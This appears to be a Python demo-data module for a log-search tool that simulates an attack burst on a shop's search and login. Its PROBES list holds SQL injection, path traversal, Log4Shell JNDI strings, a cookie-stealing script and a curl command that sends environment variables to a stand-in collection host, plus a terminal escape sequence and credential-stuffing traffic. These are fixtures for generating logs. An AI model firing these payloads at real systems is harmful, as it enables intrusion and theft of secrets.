"""Requests that mean harm: what an attacker sends to the shop's search and login.

The strings are the ones that every public server sees: probes for SQL injection, path traversal,
Log4Shell and script injection, a list of leaked passwords tried on many users, and a terminal
escape sequence in a user agent for whoever reads the log. Addresses are of the blocks kept for
documentation. When the burst takes place is `story`'s business.
"""

from __future__ import annotations

from slsloggrep.model import Level
from slsloggrep.sources.demo import browsing, shop
from slsloggrep.sources.demo.gateway import Client, Gateway

PROBES = (
    ("sql_injection", "' OR '1'='1' --"),
    ("sql_injection", "1 UNION SELECT username,password_hash,3 FROM users--"),
    ("sql_injection", "mug'; DROP TABLE orders;--"),
    ("sql_injection", "1 AND SLEEP(5)"),
    ("path_traversal", "../../../../etc/passwd"),
    ("path_traversal", "..%2f..%2f..%2fvar%2ftask%2fapp.mjs"),
    ("path_traversal", "....//....//proc/self/environ"),
    ("jndi_lookup", "${jndi:ldap://198.51.100.77:1389/a}"),
    ("jndi_lookup", "${${lower:j}ndi:${lower:l}dap://198.51.100.77/x}"),
    (
        "script_injection",
        "<script>fetch('https://collect.example.test/?c='+document.cookie)</script>",
    ),
    ("script_injection", '"><img src=x onerror=alert(1)>'),
    ("command_injection", ";cat /proc/self/environ|curl -d @- https://collect.example.test"),
)
"""What the shop's firewall rule calls it, and what was asked for."""

SCANNER = Client("203.0.113.66", "sqlmap/1.8.4#stable (https://sqlmap.example.test)")
_ESCAPING_AGENT = "Mozilla/5.0 \x1b[2J\x1b]0;all quiet\x07\x1b[8mhidden\x1b[0m"
_STUFFING_AGENT = "python-requests/2.31.0"
_SURNAMES = ("berg", "costa", "dubois", "eriksen", "fischer", "garcia", "horvat", "ivanova")
_GIVEN_NAMES = ("anna", "ben", "chiara", "david", "emil", "femke", "greta", "hugo", "ines")


def burst(gateway: Gateway, at: float) -> None:
    """Schedule the burst: four minutes of probing, and of passwords tried on many users."""
    fleet = gateway.fleet
    rng = fleet.rng
    for number in range(72):
        rule, asked = PROBES[number % len(PROBES)]
        client = Client(SCANNER.ip, _ESCAPING_AGENT if number % 9 == 4 else SCANNER.agent)
        when = at + number * 3100 + rng.random() * 900
        fleet.schedule(when, _probe, gateway, client, rule, asked, through=number == 37)
    users = [f"{given}.{surname}@example.com" for surname in _SURNAMES for given in _GIVEN_NAMES]
    for number, user in enumerate(users):
        when = at + 40_000 + number * 2300 + rng.random() * 600
        right = number == 58
        fleet.schedule(when, browsing.log_in, gateway, _stuffer(number), user, right=right)
    for number in range(24):
        fleet.schedule(at + 210_000 + number * 700, _turn_away, gateway, _stuffer(number))


def _stuffer(number: int) -> Client:
    return Client(f"198.51.100.{20 + number % 7}", _STUFFING_AGENT)


def _turn_away(at: float, gateway: Gateway, client: Client) -> None:
    gateway.accept(at, client, "POST", "/login").reject(429)


def _probe(
    at: float, gateway: Gateway, client: Client, rule: str, asked: str, *, through: bool
) -> None:
    """Serve a search that means harm; one gets past the rules and makes the database complain."""
    visit = gateway.accept(at, client, "GET", f"/search?q={asked}")
    call = gateway.fleet.call(shop.SEARCH, at + 7, correlation=visit.request_id)
    call.info("search", q=asked, ip=client.ip)
    call.work(3)
    status = 400
    if through:
        status = 500
        call.log(
            Level.ERROR,
            "search failed",
            q=asked,
            err={
                "type": "DatabaseError",
                "message": f'syntax error at or near "{asked[:6]}"',
                "code": "42601",
            },
            response={"statusCode": status},
        )
    else:
        call.log(
            Level.WARN,
            "request rejected",
            rule=rule,
            ip=client.ip,
            userAgent=client.agent,
            response={"statusCode": status},
        )
    if "\x1b" in client.agent:
        # process.stdout.write, past every logger: the escape sequence stands in the log as it came
        call.print(f"blocked agent {client.agent}\n")
    call.succeed()
    visit.answer(call, status)
